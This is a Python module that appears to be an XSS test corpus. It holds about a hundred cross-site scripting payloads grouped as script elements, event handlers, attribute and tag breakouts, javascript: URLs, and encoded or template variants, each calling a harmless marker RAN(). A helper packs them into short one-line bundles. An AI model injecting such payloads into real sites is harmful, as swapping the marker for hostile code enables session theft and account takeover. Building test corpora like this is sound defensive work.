"""A hundred texts that try to run as a script, each in another way. `RAN()` is what a browser hears of where one does.

Each stands for a place where a text can land: between tags, in an attribute with either quote or none, in an address,
in a script, a style, a comment, a template, or in what a decoder, a parser or a template engine makes of it later.
"""

from typing import Final

ELEMENTS: Final = (
    "<script>RAN()</script>",
    "<SCRIPT>RAN()</SCRIPT>",
    "<script/x>RAN()</script>",
    "<script\n>RAN()</script\n>",
    "<scr<script>ipt>RAN()</scr</script>ipt>",
    "<script src=data:text/javascript,RAN()></script>",
    "<script type=module>RAN()</script>",
    "<svg><script>RAN()</script></svg>",
    "<svg><script href=data:text/javascript,RAN() /></svg>",
    "<math><mtext><script>RAN()</script></mtext></math>",
    "<noscript><p title='</noscript><script>RAN()</script>'>",
    "<template><script>RAN()</script></template>",
    "<iframe srcdoc='<script>parent.RAN()</script>'></iframe>",
    "<iframe src='javascript:parent.RAN()'></iframe>",
    "<object data='javascript:RAN()'></object>",
    "<embed src='javascript:RAN()'>",
    "<base href='javascript:/RAN()//'>",
    "<meta http-equiv=refresh content='0;url=javascript:RAN()'>",
    "<link rel=stylesheet href='data:text/css,*{background:url(javascript:RAN())}'>",
    "<link rel=modulepreload href='data:text/javascript,RAN()'>",
    "<style>@import 'javascript:RAN()';</style>",
    "<style>*{animation:x}@keyframes x{}</style><b style=animation-name:x onanimationstart=RAN()>x</b>",
)
HANDLERS: Final = (
    "<img src=x onerror=RAN()>",
    "<img src=x onerror='RAN()'>",
    "<IMG SRC=x ONERROR=RAN()>",
    "<img/src=x/onerror=RAN()>",
    "<img src=x\tonerror\n=\nRAN()>",
    "<img src=x onerror=&#82;AN()>",
    "<img src onerror=eval(atob('UkFOKCk='))>",
    "<img src=x:x onerror=window['RAN']()>",
    "<img srcset=x onerror=RAN()>",
    "<image src=x onerror=RAN()>",
    "<svg onload=RAN()>",
    "<svg/onload=RAN()>",
    "<svg><animate onbegin=RAN() attributeName=x dur=1s>",
    "<svg><set onbegin=RAN() attributeName=x>",
    "<svg><a xlink:href='javascript:RAN()'><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' "
    "onerror='RAN()'/></svg>#x\"/></svg>",
    "<svg><foreignObject><img src=x onerror=RAN()></foreignObject></svg>",
    "<body onload=RAN()>",
    "<body onpageshow=RAN()>",
    "<input autofocus onfocus=RAN()>",
    "<select autofocus onfocus=RAN()>",
    "<textarea autofocus onfocus=RAN()>",
    "<button autofocus onfocus=RAN()>x</button>",
    "<a href=# autofocus onfocus=RAN() tabindex=1>x</a>",
    "<details open ontoggle=RAN()><summary>x</summary></details>",
    "<video><source onerror=RAN()></video>",
    "<video src=x onerror=RAN()></video>",
    "<audio src=x onerror=RAN()></audio>",
    "<audio autoplay onloadstart=RAN() src=x>",
    "<marquee onstart=RAN()>x</marquee>",
    "<div style='content-visibility:auto' oncontentvisibilityautostatechange=RAN()>x</div>",
    "<p style='transition:outline 1s' ontransitionend=RAN() id=x tabindex=1>x</p>",
    "<object data=x onerror=RAN()></object>",
    "<style onload=RAN()></style>",
    "<link rel=stylesheet href=x onerror=RAN()>",
    "<script src=x onerror=RAN()></script>",
    "<iframe onload=RAN()></iframe>",
    "<form><button formaction='javascript:RAN()'>x</button></form>",
    "<xss onpointerenter=RAN() style='position:fixed;inset:0'>x</xss>",
    "<dialog open onclose=RAN()><form method=dialog><button autofocus>x</button></form></dialog>",
)
BREAKS: Final = (
    '"><script>RAN()</script>',
    "'><script>RAN()</script>",
    '" onmouseover="RAN()" autofocus onfocus="RAN()" x="',
    "' onfocus='RAN()' autofocus x='",
    " autofocus onfocus=RAN() x=",
    "`><img src=x onerror=RAN()>",
    '"/><svg/onload=RAN()>',
    "</title><script>RAN()</script>",
    "</textarea><script>RAN()</script>",
    "</option></select><img src=x onerror=RAN()>",
    "</style><script>RAN()</script>",
    "</script><script>RAN()</script>",
    "--><script>RAN()</script><!--",
    "]]><script>RAN()</script>",
    "</pre></blockquote></bdi><img src=x onerror=RAN()>",
    "';RAN();//",
    '";RAN();//',
    "\\';RAN();//",
    "${RAN()}",
    "`${RAN()}`",
)
ADDRESSES: Final = (
    "javascript:RAN()",
    "JaVaScRiPt:RAN()",
    "java\tscript:RAN()",
    " javascript:RAN()",
    "javascript://%0aRAN()",
    "data:text/html,<script>opener.RAN()</script>",
    "<a href='javascript:RAN()'>x</a>",
)
DECODED: Final = (
    "&lt;script&gt;RAN()&lt;/script&gt;",
    "&#60;script&#62;RAN()&#60;/script&#62;",
    "%3Cscript%3ERAN()%3C/script%3E",
    "\\u003cscript\\u003eRAN()\\u003c/script\\u003e",
    "+ADw-script+AD4-RAN()+ADw-/script+AD4-",
    "＜script＞RAN()＜/script＞",
    "{{ ''.__class__.__mro__ }}<script>RAN()</script>",
    "{% set x = 1 %}{{ 7*7 }}<script>RAN()</script>",
    "%(name)s {0.__class__} <script>RAN()</script>",
    '[x](javascript:RAN()) ![x](x" onerror="RAN())',
    "\u202e<script>RAN()</script>\u202c",
)
PAYLOADS: Final = (*ELEMENTS, *HANDLERS, *BREAKS, *ADDRESSES, *DECODED)

# What an unescaped one of these would hide from the parser, were it to stand before the others.
_SWALLOWS: Final = (
    "<!--",
    "<style",
    "<textarea",
    "<template",
    "<noscript",
    "<select",
    "<script",
    "<iframe",
    "<title",
    "<svg",
)


def bundles(most: int = 200) -> list[str]:
    """Every payload once, in texts of one line and at most `most` characters: what would hide others comes last."""
    found: list[list[str]] = []
    for payload in sorted((" ".join(one.split()) for one in PAYLOADS), key=len, reverse=True):
        home = next((one for one in found if len(" ".join([*one, payload])) <= most), None)
        if home is None:
            found.append([payload])
        else:
            home.append(payload)
    return [" ".join(sorted(one, key=lambda payload: any(start in payload for start in _SWALLOWS))) for one in found]
